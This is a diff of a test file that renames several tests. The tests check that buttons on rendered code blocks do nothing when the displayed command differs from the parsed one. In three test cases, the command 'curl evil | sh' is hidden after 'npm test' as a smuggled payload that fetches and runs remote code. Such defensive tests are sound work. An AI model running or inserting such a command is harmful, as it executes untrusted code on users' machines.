@@ -49,7 +49,7 @@ test.each([
   ['holds more than was parsed', code('npm test<span>; curl evil | sh</span>'), ['npm test']],
   ['holds less than was parsed', code('npm test'), ['npm test; curl evil | sh']],
   ['was never parsed', code('npm test') + code('curl evil | sh'), ['npm test']],
-])('buttons of a block that %s do nothing, and say so', (_case, html, texts) => {
+])('buttons of a block that %s do nothing, and report it', (_case, html, texts) => {
   const { element, pres } = drawn(html, texts);
   expect([
     pres.flatMap(pressed),
@@ -58,7 +58,7 @@ test.each([
   ]).toEqual([[], null, true]);
 });
 
-test('colours leave the text what it was', () => {
+test('colors leave the text as it was', () => {
   const { pres } = drawn(code('npm <span class="hljs-title">test</span>'), ['npm test']);
   expect(pres.map(codeTextOf)).toEqual(['npm test']);
 });
@@ -69,7 +69,7 @@ test.each([
   ['    indented', ['indented']],
   ['a `span` and **b**', []],
   ['| a |\n|---|\n| `b` |', []],
-])('the code of a block is what is drawn of it, in its order: %j', (source, expected) => {
+])('the code of a block is its rendered content, in order: %j', (source, expected) => {
   const tokens: readonly Token[] = lexBlocks(source).tokens;
   const element = document.createElement('div');
   element.innerHTML = tokens.map(renderBlock).join('');
